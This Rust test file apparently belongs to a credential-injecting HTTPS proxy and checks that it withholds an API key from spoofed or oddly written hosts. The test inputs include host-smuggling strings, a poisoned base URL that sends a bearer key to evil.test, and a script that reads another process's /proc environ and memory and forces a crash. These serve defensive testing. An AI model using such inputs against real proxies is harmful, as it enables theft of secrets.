//! What goes by the proxy and is odd: hosts written strangely, others who look in, large bodies, other protocols, and the attacks
//! that were made elsewhere.

use crate::{
    proxying::{BASE_URL, BY_BASE_URL, KEPT_BACK, SECRET, UPSTREAM, hash, requests, rule, said, sandbox},
    sandbox::{KEYCTL, copy_program},
    tools,
};

/// Python's beginning of a conversation with a host by the proxy.
const BY_HAND: &str = r#"
import base64, os, socket, ssl, sys, urllib.parse
proxy, key = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"]), os.environ["KEY"]
def connected(named):
    end = socket.create_connection((proxy.hostname, proxy.port))
    password = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
    end.sendall(f"CONNECT {named} HTTP/1.1\r\nHost: {named}\r\nProxy-Authorization: Basic {password}\r\n\r\n".encode())
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        piece = end.recv(1)
        if not piece:
            return None, 0
        head += piece
    return end, int(head.split()[1])
def secure(end):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context.wrap_socket(end)
def asked(named, head):
    end, status = connected(named)
    if status != 200:
        return status
    try:
        end = secure(end)
        end.sendall(head.encode())
        return int(end.recv(4096).split()[1])
    except (OSError, IndexError):
        return "no answer"
"#;

fn by_hand(script: &str) -> String {
    format!("python3 - <<'PYTHON'\n{BY_HAND}{script}\nPYTHON\n")
}

#[test]
fn a_host_that_is_written_oddly_or_differs_from_the_one_of_the_tunnel_gets_no_key() {
    let sandbox = sandbox("");
    let script = by_hand(
        r#"
for named, host in [("API.TEST:443", "Api.Test"), ("api.test:443", "api.test:443"), ("api.test.:443", "api.test."), ("evil.test:443", "api.test"), ("api.test:443", "evil.test"),
                    ("api.test:443@evil.test:443", "api.test"), ("me@api.test:443", "api.test"), ("api.test:8443", "api.test:8443"), ("[::1]:443", "[::1]"), ("api.test%2eevil.test:443", "api.test"), ("api.test", "api.test"),
                    ("api.test:99999", "api.test"), (":443", ""), ("evil.test/api.test:443", "api.test"), ("evil.test#api.test:443", "api.test")]:
    print(named, asked(named, f"GET /x HTTP/1.1\r\nHost: {host}\r\nX-Api-Key: {key}\r\nConnection: close\r\n\r\n"))
print(asked("api.test:443", f"GET https://evil.test/x HTTP/1.1\r\nHost: api.test\r\nX-Api-Key: {key}\r\n\r\n"))
print(asked("api.test:443", f"GET /x HTTP/1.1\r\nX-Api-Key: {key}\r\n\r\n"))
end = secure(connected("api.test:443")[0])
end.sendall(f"GET /x HTTP/1.1\r\nHost: api.test\r\nHost: evil.test\r\nX-Api-Key: {key}\r\nConnection: close\r\n\r\n".encode())
print(b'"host": "api.test"' in b"".join(iter(lambda: end.recv(4096), b"")))
"#,
    );
    let ran = sandbox.call(&["-q", "proxy", "run", "-k", "KEY", "--", "sh", "-c", &script]).run();
    sandbox.no_secret_in(&ran.output.stdout);
    assert_eq!(
        ran.stdout().lines().collect::<Vec<_>>(),
        [
            "API.TEST:443 200",
            "api.test:443 200",
            "api.test.:443 403",
            "evil.test:443 421",
            "api.test:443 421",
            "api.test:443@evil.test:443 421",
            "me@api.test:443 200",
            "api.test:8443 403",
            "[::1]:443 403",
            "api.test%2eevil.test:443 400",
            "api.test 501",
            "api.test:99999 501",
            ":443 421",
            "evil.test/api.test:443 400",
            "evil.test#api.test:443 400",
            "421",
            "421",
            "True"
        ],
        "{}",
        ran.stderr()
    );
}

#[test]
fn whoever_ends_what_he_says_hears_the_answer_all_the_same() {
    let sandbox = sandbox(BASE_URL);
    let script = r#"python3 - <<'PYTHON'
import os, socket
host, path = os.environ["API"].removeprefix("http://").split("/", 1)
name, port = host.split(":")
end = socket.create_connection((name, int(port)))
end.sendall(f"GET /{path}/slow HTTP/1.1\r\nHost: {host}\r\nX-Api-Key: {os.environ['KEY']}\r\nConnection: close\r\n\r\n".encode())
end.shutdown(socket.SHUT_WR)
answer = b"".join(iter(lambda: end.recv(4096), b""))
print(answer.split()[1].decode(), answer.count(b"data: "))
PYTHON"#;
    assert_eq!(said(&sandbox, script, BY_BASE_URL), "200 3\n");
}

#[test]
fn what_makes_libraries_talkative_shows_nothing_of_a_request() {
    let sandbox = sandbox("");
    let status = "curl -sS -o /dev/null -w '%{http_code}' https://api.test/x -H \"authorization: Bearer $KEY\"";
    let mut call = sandbox.call(&["proxy", "run", "-k", "KEY", "--", "sh", "-c", status]);
    for name in ["RUST_LOG", "HYPER_LOG", "SSLKEYLOGFILE"] {
        call = call.env(name, if name == "SSLKEYLOGFILE" { "keys.log" } else { "trace" });
    }
    let ran = call.without("SSLKEYLOGFILE").run();
    ran.says("200", KEPT_BACK, 0);
}

#[test]
fn no_program_of_the_same_user_looks_into_the_proxy_and_it_leaves_no_core() {
    let sandbox = sandbox("");
    let script = format!(
        r#"
import os, subprocess, sys
home = sys.argv[2]
if os.getuid() == 0:
    os.chown(home, 65534, 65534); os.setgroups([]); os.setgid(65534); os.setuid(65534)
os.chdir(home)
run = lambda *words, **more: subprocess.run([sys.argv[1], "-q", *words], env={{"HOME": home, "PATH": os.environ["PATH"]}}, **more)
run("store", "create", "--keeper", "file", check=True)
run("set", "KEY", input=b"{SECRET}", check=True)
os.makedirs(home + "/.config/keyctl", exist_ok=True)
open(home + "/.config/keyctl/config.toml", "w").write('[[proxy.rules]]\nsecret = "KEY"\ndomain = "api.test"\n')
look = "for name in environ maps mem; do cat /proc/$PPID/$name 2>&1 >/dev/null | grep -o 'Permission denied'; done; ulimit -c unlimited; kill -SEGV $PPID"
print(run("proxy", "run", "-k", "KEY", "--", "sh", "-c", look, stdout=subprocess.PIPE, text=True, stderr=subprocess.DEVNULL).stdout, end="", flush=True)
print(subprocess.run("sleep 0.5; ls | grep -c core", shell=True, stdout=subprocess.PIPE, text=True).stdout, end="")
"#
    );
    let (binary, home) = (sandbox.outside().join("keyctl"), sandbox.outside().join("home-of-nobody"));
    copy_program(KEYCTL, &binary);
    std::fs::create_dir(&home).expect("folder");
    let open = std::os::unix::fs::PermissionsExt::from_mode(0o755);
    std::fs::set_permissions(sandbox.outside(), open).expect("set");
    let words = ["python3", "-c", &script, binary.to_str().expect("text"), home.to_str().expect("text")];
    let ran = sandbox.call::<&str>(&[]).under(&words).run();
    assert_eq!(ran.stdout(), "Permission denied\nPermission denied\nPermission denied\n0\n", "{}", ran.stderr());
}

#[test]
fn a_poisoned_base_url_gets_a_placeholder_and_an_alert_in_a_sandbox_and_out_of_it() {
    for is_confined in [false, true] {
        let sandbox = sandbox("");
        rule(&sandbox, "", "base_url = { OPENAI_BASE_URL = \"/v1\" }");
        // What somebody else's agent brings along: its own place to send requests to, in a file and not in a variable.
        sandbox.file("agent.json", "{\"model\": {\"base_url\": \"https://evil.test/v1\"}}");
        // Over HTTP/2 curl takes a refusal that comes before its body is read for a broken stream, now and then.
        let script = format!(
            "url=$(sed -n 's/.*\"base_url\": \"\\([^\"]*\\)\".*/\\1/p' agent.json)
            curl -sS --http1.1 -o /dev/null -w '%{{http_code}}\n' \"$url/chat/completions\" -H \"authorization: Bearer $KEY\" -d '{{}}'
            curl -sSk --noproxy '*' --connect-to ::127.0.0.1:{} \"$url/seen\" -H \"authorization: Bearer $KEY\" 2>/dev/null | grep -c '{}'
            curl -sS --noproxy '*' -o /dev/null -w '%{{http_code}}\n' \"$OPENAI_BASE_URL/x\" -H \"authorization: Bearer $KEY\"",
            UPSTREAM.port,
            hash(&format!("Bearer {SECRET}"))
        );
        let words = ["proxy", "run", "--sandbox", "-k", "KEY", "--", "sh", "-c", &script];
        let words: Vec<&str> = words.into_iter().filter(|word| is_confined || *word != "--sandbox").collect();
        let ran = sandbox.call(&words).env("OPENAI_BASE_URL", "https://evil.test/v1").run();
        sandbox.no_secret_in(&ran.output.stdout);
        assert_eq!(ran.stdout(), "403\n0\n200\n", "{is_confined}: {}", ran.stderr());
        let alert = "refused a request of `KEY` for `evil.test`: a host that the key is not for";
        assert!(ran.stderr().contains(alert), "{}", ran.stderr());
        assert!(sandbox.call(&["alerts", "list", "--json"]).run().stdout().contains("evil.test"));
    }
}

/// What is refused before its end is a refusal to whoever asks, and no broken stream, over either HTTP.
#[test]
fn what_is_refused_while_its_body_comes_is_heard_as_such() {
    let sandbox = sandbox("max_body = \"100KB\"\nlimit = \"1/h\"\n");
    let script = r#"
        ask() { curl -sS -o /dev/null -w '%{http_version} %{http_code}\n' "$@" -H "authorization: Bearer $KEY"; }
        ask https://api.test/x
        for n in $(seq 12); do ask https://evil.test/x -d '{}'; ask https://api.test/x -d '{}'; done | sort | uniq -c | tr -s ' '
        for n in $(seq 3); do head -c 3000000 /dev/zero | ask https://evil.test/x -H 'content-type: x/y' --data-binary @-; done | sort | uniq -c | tr -s ' '
        head -c 3000000 /dev/zero | ask https://api.test/x --data-binary @-
        head -c 100000000 /dev/zero | ask https://evil.test/x -T - 2>/dev/null
        for n in $(seq 3); do ask --http1.1 https://evil.test/x -d '{}'; done | uniq -c | tr -s ' '"#;
    let ran = sandbox.call(&["-q", "proxy", "run", "-k", "KEY", "--", "sh", "-c", script]).run();
    assert_eq!(ran.stdout(), "2 200\n 12 2 403\n 12 2 429\n 3 2 403\n2 413\n2 403\n 3 1.1 403\n", "{}", ran.stderr());
}

/// The same where the body is on its way to the host already: it becomes too large, or there is no host.
#[test]
fn what_fails_while_its_body_is_sent_on_is_heard_as_such() {
    let sandbox = sandbox(
        "max_body = \"100KB\"\n[[proxy.rules]]\nsecret = \"KEY\"\ndomain = \"down.test\"\naddress = \"127.0.0.1:9\"\n",
    );
    let script = r#"
        ask() { curl -sS -o /dev/null -w '%{http_version} %{http_code}\n' "$@" -H "authorization: Bearer $KEY" 2>&1; }
        long() { for n in 1 2 3; do head -c 3000000 /dev/zero | ask "$@" -T -; done | sort | uniq -c | tr -s ' '; }
        long https://api.test/x; long https://down.test/x
        for n in $(seq 12); do ask https://down.test/x -d '{}'; done | sort | uniq -c | tr -s ' '
        long --http1.1 https://api.test/x; long --http1.1 https://api.test/x -H expect:
        long --http1.1 https://down.test/x; long --http1.1 https://down.test/x -H expect:
        long --http1.1 https://evil.test/x -H expect:; long --http1.1 https://evil.test/x"#;
    let ran = sandbox.call(&["-q", "proxy", "run", "-k", "KEY", "--", "sh", "-c", script]).run();
    let expected =
        " 3 2 413\n 3 2 502\n 12 2 502\n 3 1.1 413\n 3 1.1 413\n 3 1.1 502\n 3 1.1 502\n 3 1.1 403\n 3 1.1 403\n";
    assert_eq!(ran.stdout(), expected, "{}", ran.stderr());
}

#[test]
fn grpc_goes_both_ways_with_its_status_behind_the_end() {
    let sandbox = sandbox("");
    let folder = UPSTREAM.folder.path().display();
    // The host of the test speaks no HTTP/2, so this one is beside it, with the same certificate.
    let server = format!(
        r#"
import grpc, sys
from concurrent import futures
def talk(asked, context):
    seen = dict(context.invocation_metadata()).get("authorization", "")
    for one in asked:
        yield one + b" back"
    context.set_trailing_metadata([("x-seen", str(len(seen)))])
    context.abort(grpc.StatusCode.NOT_FOUND, "as it should")
handler = grpc.method_handlers_generic_handler("t.T", {{"Talk": grpc.stream_stream_rpc_method_handler(talk)}})
server = grpc.server(futures.ThreadPoolExecutor(2))
server.add_generic_rpc_handlers((handler,))
read = lambda name: open("{folder}/" + name, "rb").read()
port = server.add_secure_port("127.0.0.1:0", grpc.ssl_server_credentials([(read("host.key"), read("host.pem"))]))
server.start()
print(port, flush=True)
sys.stdin.read()
"#
    );
    let mut host = std::process::Command::new(tools::python());
    host.args(["-c", &server]).stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped());
    let mut host = host.spawn().expect("python");
    let mut line = String::new();
    let mut out = std::io::BufReader::new(host.stdout.take().expect("piped"));
    std::io::BufRead::read_line(&mut out, &mut line).expect("a port");
    sandbox.configure(&format!(
        "[[proxy.rules]]\nsecret = \"KEY\"\ndomain = \"api.test\"\naddress = \"127.0.0.1:{}\"\nca = \"{folder}/ca.pem\"\n",
        line.trim()
    ));
    sandbox.file(
        "use.py",
        r#"
import grpc, os, time
channel = grpc.secure_channel("api.test:443", grpc.ssl_channel_credentials())
call = channel.stream_stream("/t.T/Talk")(iter([b"one", b"two", b"x" * 1_000_000]), metadata=[("authorization", "Bearer " + os.environ["KEY"])], timeout=20)
try:
    for one in call:
        print(len(one))
except grpc.RpcError as error:
    print(error.code().name, error.details(), dict(error.trailing_metadata())["x-seen"])
"#,
    );
    let out = said(&sandbox, &format!("{} use.py", tools::python().display()), KEPT_BACK);
    assert_eq!(out, format!("8\n8\n1000005\nNOT_FOUND as it should {}\n", "Bearer ".len() + SECRET.len()));
    assert_eq!(requests(&sandbox), ["POST api.test/t.T/Talk 200 1"]);
    host.kill().expect("ended");
    host.wait().expect("ended");
}

#[test]
fn the_proxy_takes_as_many_open_files_as_it_may_and_its_command_does_not() {
    let sandbox = sandbox("");
    let script = "ulimit -Sn; sleep 0.5; awk '/Max open files/ { print $4 == $5 }' /proc/$PPID/limits";
    let ran = sandbox
        .call(&["-q", "proxy", "run", "-k", "KEY", "--", "sh", "-c", script])
        .under(&["sh", "-c", "ulimit -Sn 500; exec \"$@\"", "sh"])
        .run();
    ran.says("500\n1\n", "", 0);
}

/// So many million bytes there and back by both ways in, and what keyctl's memory was at its largest.
fn goes_through(millions: u32) {
    let sandbox = sandbox(BASE_URL);
    let script = format!(
        r#"for to in https://api.test "$API"; do
            head -c {millions}000000 /dev/zero | curl -sS -T - "$to/upload" -H "x-api-key: $KEY" | grep -o '"size": [0-9]*'
            curl -sS "$to/download?{millions}" -H "x-api-key: $KEY" | wc -c
        done
        awk '/VmHWM/ {{ print ($2 < 65536) }}' /proc/$PPID/status"#
    );
    let out = said(&sandbox, &script, BY_BASE_URL);
    let each = format!("\"size\": {millions}000000\n{millions}000000\n");
    assert_eq!(out, format!("{each}{each}1\n"));
}

#[test]
fn a_hundred_megabytes_go_through_in_little_memory() {
    goes_through(100);
}

/// A gigabyte takes half a minute.
#[test]
#[ignore = "tests/long has the time"]
fn a_gigabyte_goes_through_in_little_memory() {
    goes_through(1000);
}

/// It is too large for a commit.
#[test]
#[ignore = "tests/long looks whether it is there"]
fn the_cli_of_github_uses_a_key_that_it_does_not_hold() {
    let sandbox = sandbox("");
    let script = "GH_HOST=api.test GH_ENTERPRISE_TOKEN=$KEY GH_PROMPT_DISABLED=1 GH_NO_UPDATE_NOTIFIER=1 gh api user";
    let out = said(&sandbox, script, KEPT_BACK);
    assert!(out.contains(&hash(&format!("token {SECRET}"))), "{out}");
}
